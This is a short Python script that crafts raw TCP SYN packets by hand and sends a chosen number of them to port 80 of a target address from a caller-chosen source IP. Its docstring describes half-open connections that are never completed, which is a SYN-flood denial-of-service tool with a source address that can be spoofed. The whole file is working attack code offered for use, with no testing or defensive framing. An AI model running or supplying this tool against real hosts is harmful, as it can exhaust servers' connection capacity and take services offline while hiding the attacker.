"""Opens connections and never goes on with them: `connects.py INTERFACE FROM MAC IP COUNT`.

TCP's first segments, from the host's address FROM with a port of their own each, to port 80 of IP.
"""

import socket
import struct
import sys
import time

interface, source, mac = sys.argv[1], socket.inet_aton(sys.argv[2]), sys.argv[3]
target, count = socket.inet_aton(sys.argv[4]), int(sys.argv[5])
PAUSE = 0.005


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total & 0xFFFF) + (total >> 16)
    return struct.pack("!H", ~(total + (total >> 16)) & 0xFFFF)


def syn(own, port):
    ip = struct.pack("!BBHHHBBH", 0x45, 0, 40, 0, 0, 64, 6, 0) + source + target
    ip = ip[:10] + checksum(ip) + ip[12:]
    tcp = struct.pack("!HHIIBBHHH", port, 80, 1, 0, 0x50, 2, 1000, 0, 0)
    pseudo = source + target + struct.pack("!HH", 6, 20)
    tcp = tcp[:16] + checksum(pseudo + tcp) + tcp[18:]
    return bytes.fromhex(mac.replace(":", "")) + own + b"\x08\x00" + ip + tcp


with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as wire:
    wire.bind((interface, 0))
    own = wire.getsockname()[4]
    for number in range(count):
        wire.send(syn(own, 1024 + number).ljust(60, b"\0"))
        if number % 10 == 0:
            time.sleep(PAUSE)
